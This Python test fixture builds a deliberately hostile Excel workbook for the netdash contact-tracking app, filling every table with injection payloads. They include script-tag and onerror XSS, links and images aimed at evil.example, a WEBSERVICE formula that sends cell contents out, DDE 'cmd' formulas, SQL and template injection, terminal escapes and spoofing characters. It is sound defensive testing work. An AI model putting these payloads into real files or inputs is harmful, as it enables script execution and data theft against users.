"""A workbook in which every cell that holds text tries to be more than text."""

from __future__ import annotations

import re
from datetime import timedelta
from itertools import cycle, pairwise
from typing import TYPE_CHECKING, Any

import openpyxl

from netdash.fields import (
    ATTENDEES,
    CONTACTS,
    EVENTS,
    INTERACTIONS,
    INTRODUCTIONS,
    PROMISES,
    SCANS,
    TALKING_POINTS,
    Kind,
)

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator, Mapping, Sequence
    from datetime import date
    from pathlib import Path

    from netdash.fields import Field, TableSpec

_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f]")

#: Stands in every text that names another machine; nothing may ever be asked of it.
STRANGER = "evil.example"
#: Set by any script of the sheet that runs.
MARK = "pwned"

#: Texts that would do something wherever they were taken for more than text.
TEXTS = (
    f"<script>window.{MARK}=1</script>",
    f"<img src=http://{STRANGER}/i.png onerror=window.{MARK}=1>",
    f"<svg/onload=window.{MARK}=1><iframe src=javascript:parent.{MARK}=1>",
    f"<a href=http://{STRANGER}/a>click</a><style>*{{display:none}}</style>",
    f"[win](http://{STRANGER}/w)",
    f"[win](javascript:window.{MARK}=1)",
    f"![spy](http://{STRANGER}/x.png)",
    f"[ref]: http://{STRANGER}/r\n[ref]",
    f"http://{STRANGER}/plain www.{STRANGER} mailto:a@{STRANGER}",
    f"<http://{STRANGER}/auto>",
    f'=HYPERLINK("http://{STRANGER}","open")',
    f'=WEBSERVICE("http://{STRANGER}/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "$e^{i\\pi}$ and $$\\int$$",
    ":material/delete: :red[alarm] :red-background[x] :streamlit: :smile:",
    "# heading\n- list\n> quote\n```code```\n| a | b |\n|---|---|",
    "**bold** _it_ `code` ~~gone~~ <br> &lt;b&gt; &#60;",
    "{{ 7*7 }} {% for i in range(9) %}x{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %s %(x)s %n",
    "\u202egnp.exe \u2066x\u2069 zero\u200bwidth \ufeff",
    "Robert'); DROP TABLE contacts;--",
    "\\\\server\\share \\u003cb\\u003e \\",
    "BEGIN:VCARD\r\nEND:VCALENDAR\nX-EVIL:1",
    "datum.x && true || event.item.context",
    "constructor",
    "__proto__",
    "long " * 6000,
)
#: What a terminal obeys; a workbook cannot hold all of these, a CSV file can.
ORDERS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    f"\x1b]8;;http://{STRANGER}\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x9d0;x\x9c",
    "\x1b[2J\x1b[H\x1bc\x08\x08\x7f",
    "over\rwritten",
    "\u202egnp.exe",
    "bell\x07 \x0e \x00 end",
)
#: Addresses of the web that are none.
URLS = (
    f"javascript:window.{MARK}=1", " JaVaScRiPt:alert(1)", f"data:text/html,<script>{MARK}=1</script>",
    "file:///etc/passwd", "vbscript:x", f"\\\\{STRANGER}\\share", f"//{STRANGER}\t/x", "java\nscript:x",
)  # fmt: skip
EMAILS = (f"p@a.example?bcc=spy@{STRANGER}&body=x", "<p@a.example>", "p@a.example\r\nBcc: spy@a.example")
#: Where the web addresses lead that are meant to be links.
PROFILES = "profiles.example"
#: Fields without which more is left to be shown.
LEFT_BLANK = {"first_name", "last_name", "nickname", "id", "kept_on", "let_go_on", "thanked_on"}
#: People with ordinary names and hostile everything else, linked from every table.
PEOPLE = 12
FILE = f"<img src=x onerror=window.{MARK}=1> =1+1 [a](b).xlsx"


def write_hostile_book(folder: Path, today: date) -> Path:
    """Write the workbook; every table is there, and people, events and promises are linked."""
    texts = (*TEXTS, *ORDERS)
    names = [text[:200] for text in texts] + [f"Ana Ruiz {number}" for number in range(PEOPLE)]
    events = [f"{text[:60]} fair" for text in texts[:10]]
    linked: list[tuple[TableSpec, list[dict[str, str]]]] = [
        (CONTACTS, [{"name": name} for name in names]),
        (EVENTS, [{"name": event} for event in events]),
        (INTERACTIONS, [{"people": name} for name in names for _ in range(3)]),
        (PROMISES, [{"person": name} for name in names]),
        (INTRODUCTIONS, [{"first": one, "second": other} for one, other in pairwise(names[-PEOPLE:])]),
        (ATTENDEES, [{"name": name, "event": events[place % 2]} for place, name in enumerate(names)]),
        (TALKING_POINTS, [{"topic": text} for text in texts]),
        (SCANS, [{"person": name, "month": f"{today:%Y-%m}"} for name in names[:8]]),
    ]
    book = openpyxl.Workbook()
    sheets = [book.active, *(book.create_sheet() for _ in linked[1:])]
    for sheet, (table, rows) in zip(sheets, linked, strict=True):
        sheet.title = table.tab
        own = [f"<b onclick=window.{MARK}=1>Own ![x](http:{STRANGER})</b>"]
        _fill(sheet, [[field.header for field in table.fields] + own, *_cells(table, rows, today)])
    _fill(book.create_sheet("netdash"), [
        ("Setting", "Value", "Meaning"), ("me", TEXTS[0], TEXTS[1]), ("capacity", TEXTS[2], TEXTS[3]),
        (f"column: Contacts!{TEXTS[0]}", TEXTS[3], ""), (TEXTS[4], TEXTS[5], TEXTS[6]),
        ("template: reconnect", TEXTS[23], ""),
    ])  # fmt: skip
    _fill(book.create_sheet("<img src=x onerror=1>"), [(text,) for text in texts])
    path = folder / FILE
    book.save(path)
    return path


def _cells(table: TableSpec, rows: Sequence[Mapping[str, str]], today: date) -> Iterator[list[object]]:
    """The rows with every field filled that was not given."""
    texts = cycle((*TEXTS, *ORDERS))
    for number, row in enumerate(rows):
        yield [row.get(field.name) or _value(field, number, texts, today) for field in table.fields] + [
            next(texts)
        ]


def _value(field: Field, number: int, texts: Iterator[str], today: date) -> object:
    if field.name in LEFT_BLANK:
        return None
    ordinary = {
        Kind.DATE: _day(field, number, today),
        Kind.CHOICE: field.choices[number % len(field.choices)] if field.choices else None,
        Kind.URL: f"https://{PROFILES}/p{number}",
        Kind.PHONE: f"+49 30 {number:06}",
        Kind.EMAIL: f"p{number}@a.example",
        Kind.YES_NO: "yes",
        Kind.NUMBER: 3,
        Kind.DAY: f"--{today + timedelta(days=number % 5):%m-%d}",
        Kind.CADENCE: "monthly",
    }.get(field.kind)
    if ordinary is None or (number % 5 == 4 and field.kind is not Kind.DATE):
        odd = {Kind.URL: URLS, Kind.EMAIL: EMAILS}.get(field.kind)
        return odd[number % len(odd)] if odd else next(texts)
    return ordinary


def _day(field: Field, number: int, today: date) -> date:
    ahead = field.name in {"due", "next_follow_up"} or (field.name == "date" and number % 3 == 0)
    return today + timedelta(days=number % 9 - 3 if ahead else -(number * 7) % 400 - 400)


def _fill(sheet: Any, rows: Iterable[Sequence[object]]) -> None:
    for number, row in enumerate(rows, start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(number, column)
            cell.value = _CONTROLS.sub(_code, value) if isinstance(value, str) else value
            if isinstance(value, str):
                cell.data_type = "s"  # otherwise what begins with "=" would be a formula


def _code(control: re.Match[str]) -> str:
    """A character as a workbook writes it that cannot hold it."""
    return f"_x{ord(control[0]):04X}_"
